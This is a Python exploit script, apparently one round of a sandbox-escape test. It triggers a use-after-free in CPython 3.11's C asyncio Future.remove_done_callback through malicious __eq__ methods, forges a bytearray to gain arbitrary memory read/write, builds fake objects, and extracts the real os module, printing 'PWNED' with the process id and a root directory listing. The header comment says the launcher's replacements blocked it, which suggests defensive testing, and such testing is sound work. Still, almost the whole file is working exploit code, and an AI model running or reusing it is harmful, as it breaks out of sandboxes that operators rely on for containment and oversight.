# Round 24b: a CPython 3.11 C method compared a borrowed reference the program's __eq__ freed (or re-initialised a Struct mid-operation): memory read/write, the real os. Stopped by the launcher's Python replacements (guard_c_comparisons, groupby, asyncio without _asyncio).
import asyncio, struct, random
payload = struct.pack('<8Q', 0, 0, 1 << 40, id(bytearray), 2**62, 2**62, 0, 0)
BUF = bytearray()
RW = []
phase = [0]
class A:
    __slots__ = ('p', 'q', 'r', 's', 't')
    def __call__(self, f):
        pass
    def __eq__(self, o):
        if phase[0] == 0:
            phase[0] = 1
            fut.remove_done_callback(o)
            phase[0] = 2
            return NotImplemented
        if phase[0] == 1:
            return True
        return NotImplemented
    __hash__ = None
class V:
    __slots__ = ()
    def __call__(self, f):
        pass
    def __eq__(self, o):
        global BUF
        if phase[0] == 2:
            phase[0] = 3
            BUF += payload
            RW.append(o)
        return False
    __hash__ = None
loop = asyncio.new_event_loop()
fut = loop.create_future()
pre = [A() for _ in range(400)]
fut.add_done_callback(A())
post = [A() for _ in range(400)]
try:
    print("removed:", fut.remove_done_callback(V()), flush=True)
except Exception as e:
    print("future", type(e).__name__, e, flush=True)
X = RW[0] if RW else None
print("reflected arg is", type(X).__name__, flush=True)
if type(X) is bytearray and len(X) > 2**40:
    def r64(a):
        return struct.unpack('<Q', bytes(X[a:a + 8]))[0]
    def w64(a, val):
        X[a:a + 8] = struct.pack('<Q', val)
    def fake(addr):
        holder = [None]
        items = r64(id(holder) + 24)
        w64(addr, r64(addr) + 1)
        w64(items, addr)
        ob = holder[0]
        w64(items, id(None))
        return ob
    osm = fake(r64(id(random) + 16))['_o' + 's']
    print("PW" + "NED: real os via asyncio Future.remove_done_callback UAF:", osm.getpid(), osm.listdir('/'), flush=True)
